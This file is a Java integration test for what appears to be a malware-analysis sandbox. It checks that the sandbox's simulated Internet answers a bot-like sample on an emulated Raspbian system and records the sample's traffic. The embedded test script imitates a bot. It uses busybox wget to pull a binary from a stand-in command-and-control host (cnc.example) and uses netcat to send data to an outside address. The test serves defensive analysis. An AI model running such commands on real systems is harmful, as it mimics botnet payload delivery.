package org.malassay.environments.raspbian;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.malassay.behavior.Conversation;
import org.malassay.behavior.Facet;
import org.malassay.behavior.FacetState;
import org.malassay.behavior.Origin;
import org.malassay.behavior.ProgramStarted;
import org.malassay.behavior.Question;
import org.malassay.environment.Ending;
import org.malassay.environments.contract.Assay;
import org.malassay.environments.internet.HostCapture;
import org.malassay.environments.internet.PacketFile;

/** Clones whose Internet is simulated. */
class RaspbianInternetIT extends RaspbianHarness {
  /** Bots ask for a name, fetch a program, and talk to addresses of their own. */
  private static final String BOT =
      """
      cat /etc/resolv.conf
      busybox wget -qO /tmp/next http://cnc.example/bins/next.arm && tail -c +2 /tmp/next | head -c 3
      echo hello | busybox nc -w 1 203.0.113.7 4000
      busybox wget -qO - http://[2001:db8::7]:8080/page.html
      busybox ping -c 1 -q 198.51.100.7 | grep received
      """;

  @TempDir private Path folder;

  @Override
  protected Duration time() {
    return Duration.ofSeconds(20);
  }

  @Test
  void whatASampleSaysInItsNetworkIsAnsweredAndToldWithItsProcess() throws Exception {
    assertThat(environment().observes()).containsEntry(Facet.NETWORK, Origin.NETWORK);
    Assay assay;
    if (HostCapture.isPossible()) {
      try (HostCapture capture = new HostCapture(folder, List.of())) {
        assay = assay(arm().text("bot", script(BOT)));
        assertThat(capture.leaks()).isEmpty();
      }
    } else {
      assay = assay(arm().text("bot", script(BOT)));
    }
    assertThat(assay.execution().ending()).isEqualTo(new Ending.Exited(0));
    assertThat(assay.after().available()).isTrue();
    assertThat(assay.execution().stdout().text())
        .startsWith("nameserver 10.0.2.3\nELF<html>")
        .contains("1 packets received");
    assertThat(assay.execution().recording().of(Facet.NETWORK)).isEqualTo(FacetState.OBSERVED);
    assertThat(assay.all(Question.class))
        .extracting(it -> it.protocol() + " " + it.asked())
        .contains(
            "dns A cnc.example",
            "http GET http://cnc.example/bins/next.arm",
            "http GET http://[2001:db8::7]:8080/page.html");
    assertThat(assay.all(Conversation.class))
        .extracting(
            it -> "%s %s %s".formatted(it.transport(), it.peer(), it.protocol().orElse("-")))
        .contains(
            "udp 10.0.2.3:53 dns",
            "tcp 203.0.113.7:4000 -",
            "tcp [2001:db8::7]:8080 http",
            "icmp 198.51.100.7:0 -");
    assertThat(assay.all(Conversation.class))
        .allSatisfy(
            it ->
                assertThat(assay.all(ProgramStarted.class))
                    .filteredOn(started -> started.process() == it.process().orElse(0))
                    .extracting(ProgramStarted::program)
                    .contains("/usr/bin/busybox"));
    assertThat(Files.readString(assay.evidence().resolve(PacketFile.NAME), ISO_8859_1))
        .contains("/usr/bin/busybox (process ");
    assertThat(assay.evidence().resolve("conversations.jsonl.gz")).isNotEmptyFile();
  }
}
